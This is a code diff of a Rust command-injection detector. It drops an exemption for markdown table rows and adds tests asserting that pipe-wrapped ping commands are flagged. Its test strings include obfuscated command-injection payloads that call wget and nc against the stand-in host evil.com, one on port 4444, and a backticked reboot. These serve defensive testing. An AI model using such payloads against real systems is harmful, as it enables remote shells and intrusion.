@@ -75,15 +75,6 @@ fn backtick_partner(v: &[u8], i: usize) -> Option<usize> {
     single.then(|| v[i + 1..].iter().position(|&b| b == b'`').map(|close| i + 1 + close)).flatten()
 }
 
-/// Whether the line holding `i` is a markdown table's row (`| a | b |`): a shell would refuse
-/// it whole (a line that opens with `|` is a syntax error), so its bars separate no commands.
-fn table_row(v: &[u8], i: usize) -> bool {
-    let start = v[..i].iter().rposition(|&b| b == b'\n').map_or(0, |p| p + 1);
-    let end = v[i..].iter().position(|&b| b == b'\n' || b == b'\r').map_or(v.len(), |p| i + p);
-    let line = v[start..end].trim_ascii();
-    line.len() > 1 && line.starts_with(b"|") && line.ends_with(b"|")
-}
-
 /// The checks of [`syntax`] at `i`: `Some` ends the scan with its verdict.
 #[inline(never)]
 fn syntax_at(v: &[u8], i: usize, level: u8) -> Option<Option<Hit>> {
@@ -911,10 +902,6 @@ fn commands(v: &[u8], level: u8) -> Option<Hit> {
                 continue;
             }
         };
-        if v[i] == b'|' && level < 2 && table_row(v, i) {
-            i += 1;
-            continue;
-        }
         if v[i] == b'`' && level < 2 {
             // A markdown code fence's line (```python): the code below it is read as any text.
             if let Some(end) = fence_line(v, i) {
@@ -1433,7 +1420,6 @@ mod tests {
             "Curl up with a good book",
             "wget is a command line tool",
             "Curl up with a good book, then sleep.",
-            "| a | b |\n| yes | no |",
             "`x` (more than 64), `y` file of its `z`",
             "`host` is the request's host",
             "`HEAD` is refused with 403",
@@ -1496,6 +1482,9 @@ mod tests {
             "1 `reboot` ",
             "{wg$@et,evil.com}",
             "x | yes |",
+            // A table row's bars are a shell's when the row is put inside a command line.
+            "|| ping -c 10 127.0.0.1 ||",
+            "| ping -c 10 127.0.0.1 |",
             "x;{n$@c,evil.com,4444}",
         ] {
             assert!(cmdi(s, 1), "{s}");
